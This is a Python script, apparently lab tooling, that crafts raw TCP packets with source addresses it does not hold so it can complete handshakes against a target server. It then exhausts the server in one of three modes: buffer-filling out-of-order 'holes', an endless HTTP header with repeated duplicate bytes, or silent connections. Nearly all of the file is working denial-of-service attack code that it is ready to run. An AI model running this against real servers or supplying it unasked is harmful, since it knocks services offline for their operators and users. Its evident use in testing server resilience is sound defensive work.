#!/usr/bin/env python3
# SPDX-License-Identifier: ISC
"""attack.py - attackers that complete their handshakes: they have the addresses that they send from

usage: attack.py KIND ADDRESS PORT SOURCES RATE SECONDS

Runs in the network namespace of an attacker with an interface eth0, to which SOURCES addresses 10.66.0.1, 10.66.1.1
and so on, each of another /24, are routed, but which has none of them: its kernel neither answers nor resets. KIND is

	holes		each connection sends two bytes at the offsets 1000, 3000, ... 31000 of its stream, each of which
			takes a chunk of the buffers, and none of which can be used; then the next connection does
	duplicates	one connection sends 32,000 bytes of a HTTP head without an end, each segment when the one before
			is acknowledged, and then again and again one byte of them; at the end, it resets
	silent		connections that say nothing

RATE is segments a second, for silent connections a second. A connection that gets no SYN/ACK is given up. At the end it
says how many of each it has made, with what was sent in all in the words of flood.c.
"""

import random
import socket
import struct
import sys
import time

from pcap import ACK, PSH, RST, SYN

INTERFACE = "eth0"
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
FIRST_PORT, PORTS = 10000, 50000
STEP, HOLES_END = 2000, 32000
HEAD_BYTES, HEAD_SEGMENT = 32000, 1000
PATIENCE = 5


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return 0xFFFF - total


class Connection:
    """A connection with its source (address, port); the first byte of its stream is 1, so the SYN is 0"""

    def __init__(self, source, place):
        self.source = source
        self.ends = socket.inet_aton(source[0]) + socket.inet_aton(place[0])
        self.ports = struct.pack("!HH", source[1], place[1])
        self.next = 0  # what we acknowledge
        self.acked = 0

    def segment(self, flags, seq, data=b""):
        """IPv4 header and segment; the kernel adds the header's checksum"""
        tcp = self.ports + struct.pack("!IIBBHHH", seq, self.next, 5 << 4, flags, 64240, 0, 0) + data
        pseudo = self.ends + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0) + self.ends + tcp


class Attacker:
    def __init__(self, place, sources, rate):
        self.place, self.sources, self.rate = place, sources, rate
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
        self.sniffer.bind((INTERFACE, ETH_P_IP))
        self.sniffer.setblocking(False)
        self.connections = {}
        self.first = random.randrange(PORTS)  # what the last one used may not be forgotten yet
        self.begun = self.opened = self.sent = self.resets = 0
        self.start = time.monotonic()

    def send(self, connection, flags, seq, data=b""):
        self.raw.sendto(connection.segment(flags, seq, data), (self.place[0], 0))
        self.sent += 1

    def wait_turn(self, turns):
        """Until so many may have happened since the start; meanwhile, hear what is answered"""
        due = self.start + turns / self.rate
        while True:
            self.hear()
            left = due - time.monotonic()
            if left <= 0:
                return
            time.sleep(min(left, 0.002))

    def hear(self):
        """Take note of all that has come; for each connection that was opened by it, call opened_one()"""
        while True:
            try:
                packet, origin = self.sniffer.recvfrom(2048)
            except BlockingIOError:
                return
            head = (packet[0] & 15) * 4
            if origin[2] == PACKET_OUTGOING or packet[9] != socket.IPPROTO_TCP or len(packet) < head + 20:
                continue
            _, port, seq, ack, _, flags = struct.unpack_from("!HHIIBB", packet, head)
            connection = self.connections.get((socket.inet_ntoa(packet[16:20]), port))
            if connection is None:
                continue
            if flags & RST:
                self.resets += 1
                del self.connections[connection.source]
            elif flags & (SYN | ACK) == SYN | ACK and connection.acked == 0:
                self.opened += 1
                connection.next = (seq + 1) & 0xFFFFFFFF
                connection.acked = 1
                self.send(connection, ACK, 1)
            elif flags & ACK:
                connection.acked = max(connection.acked, ack)

    def begin(self):
        """Send the SYN of another connection"""
        turn = (self.first + self.begun // self.sources) % PORTS
        source = (f"10.66.{self.begun % self.sources}.1", FIRST_PORT + turn)
        connection = Connection(source, self.place)
        self.connections[source] = connection
        self.begun += 1
        self.send(connection, SYN, 0)
        return connection

    def wait_for_answer(self, connection):
        """Until its SYN was answered; false if it is not"""
        limit = time.monotonic() + PATIENCE
        while connection.acked == 0 and time.monotonic() < limit:
            self.hear()
            time.sleep(0.0005)
        return connection.acked > 0

    def deliver(self, connection, seq, data):
        """Send it every second until it is acknowledged; false if that does not happen"""
        for _ in range(PATIENCE):
            self.send(connection, ACK | PSH, seq, data)
            limit = time.monotonic() + 1
            while time.monotonic() < limit:
                self.hear()
                if connection.acked >= seq + len(data):
                    return True
                time.sleep(0.0005)
        return False


def holes(attacker, end):
    waiting = []
    while time.monotonic() < end:
        waiting.append(attacker.begin())
        attacker.wait_turn(attacker.sent)
        # the answer to the SYN had the time that a few connections take
        if len(waiting) < 8:
            continue
        connection = waiting.pop(0)
        for offset in range(1000, HOLES_END if connection.acked else 0, STEP):
            attacker.send(connection, ACK | PSH, 1 + offset, b"xx")
            attacker.wait_turn(attacker.sent)


def duplicates(attacker, end):
    line = b"X-Line: " + b"a" * 90 + b"\r\n"
    head = (b"GET / HTTP/1.1\r\n" + line * (HEAD_BYTES // len(line) + 1))[:HEAD_BYTES]
    while time.monotonic() < end:
        connection = attacker.begin()
        if not attacker.wait_for_answer(connection):
            continue
        for offset in range(0, HEAD_BYTES, HEAD_SEGMENT):
            if not attacker.deliver(connection, 1 + offset, head[offset:offset + HEAD_SEGMENT]):
                sys.exit(f"only {connection.acked - 1} bytes were acknowledged, {attacker.resets} resets")
        attacker.start, before = time.monotonic(), attacker.sent
        while time.monotonic() < end and connection.source in attacker.connections:
            attacker.send(connection, ACK | PSH, 1 + 100, head[100:101])
            attacker.wait_turn(attacker.sent - before)
        attacker.send(connection, RST, 1 + HEAD_BYTES)


def silent(attacker, end):
    while time.monotonic() < end:
        attacker.begin()
        attacker.wait_turn(attacker.begun)


def main():
    kind, address, port, sources, rate, seconds = sys.argv[1:]
    attacker = Attacker((address, int(port)), int(sources), int(rate))
    began = time.monotonic()
    {"holes": holes, "duplicates": duplicates, "silent": silent}[kind](attacker, began + float(seconds))
    attacker.hear()
    took = time.monotonic() - began
    print(f"sent {attacker.sent} segments in {took:.2f} s, {attacker.sent / took:.0f}/s, {attacker.begun} begun,",
          f"{attacker.opened} opened, {attacker.resets} resets")


if __name__ == "__main__":
    main()
